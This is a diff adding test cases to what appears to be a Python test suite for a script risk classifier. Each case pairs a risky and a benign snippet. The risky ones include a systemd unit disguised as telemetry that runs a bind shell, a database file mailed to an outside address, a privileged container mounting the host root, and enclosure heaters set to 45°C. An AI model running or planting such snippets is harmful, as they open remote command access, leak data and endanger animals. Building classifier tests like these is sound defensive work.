@@ -20569,6 +20569,123 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             ': {"leave_front_door_open": False}})\n',
             L,
         ),
+        # Round 128 (holdout936-943): secrets given short literal values under a running app, the project's own crontab,
+        # scan results probed through /dev/tcp, nginx -t before a Python-written site, rclone remotes in config here-
+        # documents, pid-file kills, database files mailed away, Tailscale Funnel, product DISABLE_AUTH settings, app
+        # env files posted from the folder cd went to, bind shells in unit files, privileged compose services with the
+        # host's root, pg_ctl immediate stops, scalding setpoints, logging switched off
+        (
+            'import subprocess\n'
+            'from pathlib import Path\n'
+            'Path("/etc/nginx/sites-available/order.conf").write_text(Path("deploy/nginx/order.conf").read_t'
+            'ext())\n'
+            'subprocess.run(["nginx", "-t"], check=True)\n'
+            'subprocess.run(["systemctl", "reload", "nginx"], check=True)\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'from pathlib import Path\n'
+            'Path("/etc/nginx/sites-available/order.conf").write_text(Path("deploy/nginx/order.conf").read_t'
+            'ext())\n'
+            'subprocess.run(["systemctl", "reload", "nginx"], check=True)\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'from pathlib import Path\n'
+            'db = Path("/srv/shiori/shiori.db")\n'
+            'msg = EmailMessage()\n'
+            'msg["From"] = "backup@example.com"\n'
+            'msg["To"] = "keeper@mailbox.example.net"\n'
+            'msg.add_attachment(db.read_bytes(), maintype="application", subtype="octet-stream", filename="s'
+            'hiori.db")\n'
+            'smtplib.SMTP("smtp.example.com").send_message(msg)\n',
+            H,
+        ),
+        (
+            'import smtplib\n'
+            'from email.message import EmailMessage\n'
+            'from pathlib import Path\n'
+            'db = Path("/srv/shiori/shiori.db")\n'
+            'msg = EmailMessage()\n'
+            'msg["From"] = "backup@example.com"\n'
+            'msg["To"] = "ops@example.com"\n'
+            'msg.add_attachment(db.read_bytes(), maintype="application", subtype="octet-stream", filename="s'
+            'hiori.db")\n'
+            'smtplib.SMTP("smtp.example.com").send_message(msg)\n',
+            S,
+        ),
+        (
+            'from pathlib import Path\n'
+            'unit = """[Service]\n'
+            'ExecStart=/usr/bin/python3 -c "import socket,subprocess;s=socket.socket();s.bind((\'0.0.0.0\',700'
+            '1));s.listen(1)\\\\nwhile 1:\\\\n c,_=s.accept();c.send(subprocess.run(c.recv(4096),shell=True,capt'
+            'ure_output=True).stdout)"\n'
+            '"""\n'
+            'Path("/etc/systemd/system/gh-telemetry.service").write_text(unit)\n',
+            C,
+        ),
+        (
+            'from pathlib import Path\n'
+            'unit = """[Service]\n'
+            'ExecStart=/usr/bin/python3 -m http.server 7001 --bind 127.0.0.1 --directory /srv/public\n'
+            '"""\n'
+            'Path("/etc/systemd/system/gh-telemetry.service").write_text(unit)\n',
+            M,
+        ),
+        (
+            'import subprocess, yaml\n'
+            'from pathlib import Path\n'
+            'compose = Path.home() / ".scrypted" / "docker-compose.yml"\n'
+            'doc = yaml.safe_load(compose.read_text())\n'
+            'svc = doc["services"]["scrypted"]\n'
+            'svc["privileged"] = True\n'
+            'svc.setdefault("volumes", []).append("/:/host")\n'
+            'compose.write_text(yaml.safe_dump(doc))\n'
+            'subprocess.run(["docker", "compose", "-f", str(compose), "up", "-d"], check=True)\n',
+            H,
+        ),
+        (
+            'import subprocess, yaml\n'
+            'from pathlib import Path\n'
+            'compose = Path.home() / ".scrypted" / "docker-compose.yml"\n'
+            'doc = yaml.safe_load(compose.read_text())\n'
+            'svc = doc["services"]["scrypted"]\n'
+            'svc.setdefault("volumes", []).append("./data:/server/volume")\n'
+            'compose.write_text(yaml.safe_dump(doc))\n'
+            'subprocess.run(["docker", "compose", "-f", str(compose), "up", "-d"], check=True)\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for z in ["vivarium-1", "vivarium-2"]:\n'
+            '    requests.put(f"http://climate.local/api/zones/{z}", json={"setpoint": 45})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for z in ["vivarium-1", "vivarium-2"]:\n'
+            '    requests.put(f"http://climate.local/api/zones/{z}", json={"setpoint": 30})\n',
+            S,
+        ),
+        # Round 128 (holdout936-943), for the corpus's margin: processes frozen with SIGSTOP (not the script's own job),
+        # a reptile house's heaters
+        (
+            'import requests\n'
+            'API = "https://climate.reptilehouse.example.com/api/v1"\n'
+            'for z in requests.get(f"{API}/zones").json():\n'
+            '    requests.patch(f"{API}/zones/{z[\'id\']}", json={"day_setpoint_c": 45.0})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'API = "https://climate.reptilehouse.example.com/api/v1"\n'
+            'for z in requests.get(f"{API}/zones").json():\n'
+            '    requests.patch(f"{API}/zones/{z[\'id\']}", json={"day_setpoint_c": 30.0})\n',
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
